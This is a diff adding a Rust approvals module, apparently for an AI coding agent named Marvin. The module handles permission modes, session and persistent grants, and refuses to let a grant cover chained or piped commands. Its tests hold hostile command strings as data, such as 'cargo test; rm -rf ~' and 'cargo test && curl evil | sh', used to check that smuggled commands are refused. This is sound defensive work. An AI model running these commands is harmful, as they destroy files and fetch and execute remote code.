@@ -1,0 +1,368 @@
+//! Approvals: the actions that need the person's yes, the grants they gave (for this session,
+//! or always in a project, kept in MARVIN_HOME/approvals.json), and the permission modes.
+
+use std::collections::{BTreeMap, HashSet};
+use std::path::{Path, PathBuf};
+use std::sync::{Mutex, PoisonError};
+
+use serde::{Deserialize, Serialize};
+
+/// How much Marvin may do without asking (DESIGN.md "Interactions").
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum PermissionMode {
+    /// Ask before commands, git writes and file writes.
+    Default,
+    /// Ask only before commands; file edits go ahead.
+    AcceptEdits,
+    /// Read-only: tools that write are not offered.
+    Plan,
+    /// Never ask.
+    Bypass,
+}
+
+impl PermissionMode {
+    pub const NAMES: [&'static str; 4] = ["default", "accept-edits", "plan", "bypass"];
+
+    pub fn parse(name: &str) -> Option<Self> {
+        match name.trim() {
+            "default" => Some(Self::Default),
+            "accept-edits" => Some(Self::AcceptEdits),
+            "plan" => Some(Self::Plan),
+            "bypass" => Some(Self::Bypass),
+            _ => None,
+        }
+    }
+
+    pub fn name(self) -> &'static str {
+        Self::NAMES[self as usize]
+    }
+}
+
+/// What sort of action needs approval.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum ActionKind {
+    /// A shell command.
+    Command,
+    /// A file change.
+    Edit,
+    /// Anything else that acts: git writes, sub-agents, package installs.
+    Act,
+}
+
+/// An action waiting for approval.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Action {
+    pub tool: String,
+    pub kind: ActionKind,
+    /// The exact action, e.g. `run_command:cargo test --release` or `apply_patch:src/main.rs`.
+    pub key: String,
+    /// What a session or `always` grant covers, when broader than this exact action
+    /// (`run_command:cargo test`), with its label for the prompt (`cargo test …`).
+    pub scope: Option<(String, String)>,
+    pub summary: String,
+    pub detail: String,
+}
+
+impl Action {
+    pub fn command(command: &str) -> Action {
+        Action {
+            tool: "run_command".into(),
+            kind: ActionKind::Command,
+            key: format!("run_command:{command}"),
+            scope: command_scope(command)
+                .map(|words| (format!("run_command:{words}"), format!("{words} …"))),
+            summary: "run_command wants to run:".into(),
+            detail: command.to_string(),
+        }
+    }
+
+    pub fn edit(tool: &str, path: &str, diff: String) -> Action {
+        Action {
+            tool: tool.into(),
+            kind: ActionKind::Edit,
+            key: format!("{tool}:{path}"),
+            scope: None,
+            summary: format!("{tool} wants to change {path}:"),
+            detail: diff,
+        }
+    }
+
+    pub fn act(tool: &str, summary: String, detail: String) -> Action {
+        Action {
+            tool: tool.into(),
+            kind: ActionKind::Act,
+            key: tool.into(),
+            scope: None,
+            summary,
+            detail,
+        }
+    }
+
+    /// The key a grant is stored under.
+    pub fn grant_key(&self) -> &str {
+        self.scope.as_ref().map_or(&self.key, |(key, _)| key)
+    }
+}
+
+/// The program and subcommand of a simple command (`cargo test`, `git status`, `ls`), which is
+/// what an `always` grant for it covers. `None` for anything a prefix cannot safely stand for:
+/// command lists, pipes, substitutions, redirections.
+pub fn command_scope(command: &str) -> Option<String> {
+    if command.chars().any(|c| {
+        matches!(
+            c,
+            ';' | '&'
+                | '|'
+                | '`'
+                | '$'
+                | '('
+                | ')'
+                | '<'
+                | '>'
+                | '\n'
+                | '\\'
+                | '"'
+                | '\''
+                | '*'
+                | '?'
+        )
+    }) {
+        return None;
+    }
+    let mut words = command.split_whitespace();
+    let program = words.next()?;
+    if program.contains('=') {
+        return None; // VAR=value cmd: the environment is part of what runs
+    }
+    match words.next() {
+        Some(sub)
+            if sub
+                .chars()
+                .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_')
+                && !sub.starts_with('-') =>
+        {
+            Some(format!("{program} {sub}"))
+        }
+        _ => Some(program.to_string()),
+    }
+}
+
+/// Is `grant` good for `action`? The exact key, or the scope of a simple command.
+fn covers(grant: &str, action: &Action) -> bool {
+    grant == action.key
+        || action
+            .scope
+            .as_ref()
+            .is_some_and(|(scope, _)| scope == grant)
+}
+
+#[derive(Debug, Default, Serialize, Deserialize)]
+struct StoreFile {
+    /// Working directory → grants.
+    projects: BTreeMap<String, Vec<String>>,
+}
+
+/// The grants of a session, and the `always` grants of its project.
+#[derive(Default)]
+pub struct Grants {
+    session: Mutex<HashSet<String>>,
+    store: Option<PathBuf>,
+    project: String,
+}
+
+impl Grants {
+    /// `store` is MARVIN_HOME/approvals.json; `project` the working directory they belong to.
+    pub fn new(store: Option<PathBuf>, project: &Path) -> Self {
+        Self {
+            session: Mutex::default(),
+            store,
+            project: project.display().to_string(),
+        }
+    }
+
+    pub fn granted(&self, action: &Action) -> bool {
+        let session = self.session.lock().unwrap_or_else(PoisonError::into_inner);
+        session.iter().any(|g| covers(g, action)) || self.always().iter().any(|g| covers(g, action))
+    }
+
+    /// Remembers a grant; `Once` remembers nothing.
+    pub fn grant(&self, action: &Action, scope: super::Scope) -> Result<(), String> {
+        let key = action.grant_key().to_string();
+        match scope {
+            super::Scope::Once => Ok(()),
+            super::Scope::Session => {
+                self.session
+                    .lock()
+                    .unwrap_or_else(PoisonError::into_inner)
+                    .insert(key);
+                Ok(())
+            }
+            super::Scope::Always => self.update(|grants| {
+                if !grants.contains(&key) {
+                    grants.push(key);
+                }
+            }),
+        }
+    }
+
+    /// The `always` grants of this project.
+    pub fn always(&self) -> Vec<String> {
+        let Some(path) = &self.store else {
+            return Vec::new();
+        };
+        load(path)
+            .projects
+            .remove(&self.project)
+            .unwrap_or_default()
+    }
+
+    /// Removes an `always` grant; false when there was none.
+    pub fn revoke(&self, key: &str) -> Result<bool, String> {
+        let mut found = false;
+        self.update(|grants| {
+            let before = grants.len();
+            grants.retain(|g| g != key);
+            found = grants.len() != before;
+        })?;
+        Ok(found)
+    }
+
+    fn update(&self, change: impl FnOnce(&mut Vec<String>)) -> Result<(), String> {
+        let Some(path) = &self.store else {
+            return Err("there is no MARVIN_HOME to keep approvals in".into());
+        };
+        let mut file = load(path);
+        let grants = file.projects.entry(self.project.clone()).or_default();
+        change(grants);
+        if grants.is_empty() {
+            file.projects.remove(&self.project);
+        }
+        save(path, &file).map_err(|e| format!("cannot save approvals to {}: {e}", path.display()))
+    }
+}
+
+/// The store, or an empty one. A file that does not parse is moved aside, never overwritten.
+fn load(path: &Path) -> StoreFile {
+    let Ok(text) = std::fs::read_to_string(path) else {
+        return StoreFile::default();
+    };
+    match serde_json::from_str(&text) {
+        Ok(file) => file,
+        Err(error) => {
+            let aside = path.with_extension(format!(
+                "json.corrupt-{}",
+                crate::clock::iso8601(std::time::SystemTime::now())
+            ));
+            eprintln!(
+                "marvin: {} is not valid ({error}); moved it to {} and starting afresh",
+                path.display(),
+                aside.display()
+            );
+            let _ = std::fs::rename(path, aside);
+            StoreFile::default()
+        }
+    }
+}
+
+fn save(path: &Path, file: &StoreFile) -> std::io::Result<()> {
+    if let Some(dir) = path.parent() {
+        std::fs::create_dir_all(dir)?;
+    }
+    let temp = path.with_extension(format!("json.tmp-{}", std::process::id()));
+    std::fs::write(
+        &temp,
+        serde_json::to_string_pretty(file).unwrap_or_default(),
+    )?;
+    std::fs::rename(temp, path)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::interact::Scope;
+    use crate::test_support::TempDir;
+
+    #[test]
+    fn command_scopes_cover_only_simple_commands() {
+        let cases: &[(&str, Option<&str>)] = &[
+            ("cargo test --release", Some("cargo test")),
+            ("git status", Some("git status")),
+            ("ls -la", Some("ls")),
+            ("npm run build", Some("npm run")),
+            ("cargo test; rm -rf ~", None),
+            ("cat x | sh", None),
+            ("echo $(whoami)", None),
+            ("FOO=1 make", None),
+            ("rm -rf *", None),
+        ];
+        for (command, expected) in cases {
+            assert_eq!(command_scope(command).as_deref(), *expected, "{command}");
+        }
+    }
+
+    #[test]
+    fn grants_by_scope_and_persistence() {
+        let home = TempDir::new("grants");
+        let store = home.path().join("approvals.json");
+        let project = Path::new("/work/project");
+        let grants = Grants::new(Some(store.clone()), project);
+        let test = Action::command("cargo test --release");
+        assert!(!grants.granted(&test));
+        grants.grant(&test, Scope::Once).unwrap();
+        assert!(!grants.granted(&test));
+        grants.grant(&test, Scope::Session).unwrap();
+        assert!(grants.granted(&Action::command("cargo test")));
+        assert!(!grants.granted(&Action::command("cargo test && curl evil | sh")));
+        assert!(
+            !Grants::new(Some(store.clone()), project).granted(&test),
+            "session grants end with the session"
+        );
+        grants
+            .grant(
+                &Action::edit("apply_patch", "src/a.rs", String::new()),
+                Scope::Always,
+            )
+            .unwrap();
+        let later = Grants::new(Some(store.clone()), project);
+        assert!(later.granted(&Action::edit("apply_patch", "src/a.rs", String::new())));
+        assert!(!later.granted(&Action::edit("apply_patch", "src/b.rs", String::new())));
+        assert!(
+            !Grants::new(Some(store.clone()), Path::new("/elsewhere")).granted(&Action::edit(
+                "apply_patch",
+                "src/a.rs",
+                String::new()
+            ))
+        );
+        assert_eq!(later.always(), ["apply_patch:src/a.rs"]);
+        assert!(later.revoke("apply_patch:src/a.rs").unwrap());
+        assert!(!later.revoke("apply_patch:src/a.rs").unwrap());
+        assert!(later.always().is_empty());
+    }
+
+    #[test]
+    fn a_corrupt_store_is_moved_aside() {
+        let home = TempDir::new("grants-corrupt");
+        let store = home.path().join("approvals.json");
+        std::fs::write(&store, "{not json").unwrap();
+        let grants = Grants::new(Some(store.clone()), Path::new("/p"));
+        assert!(grants.always().is_empty());
+        let aside: Vec<_> = std::fs::read_dir(home.path())
+            .unwrap()
+            .filter_map(Result::ok)
+            .filter(|e| e.file_name().to_string_lossy().contains("corrupt"))
+            .collect();
+        assert_eq!(aside.len(), 1);
+        assert_eq!(
+            std::fs::read_to_string(aside[0].path()).unwrap(),
+            "{not json"
+        );
+    }
+
+    #[test]
+    fn modes_parse_by_name() {
+        for name in PermissionMode::NAMES {
+            assert_eq!(PermissionMode::parse(name).unwrap().name(), name);
+        }
+        assert_eq!(PermissionMode::parse("yolo"), None);
+    }
+}
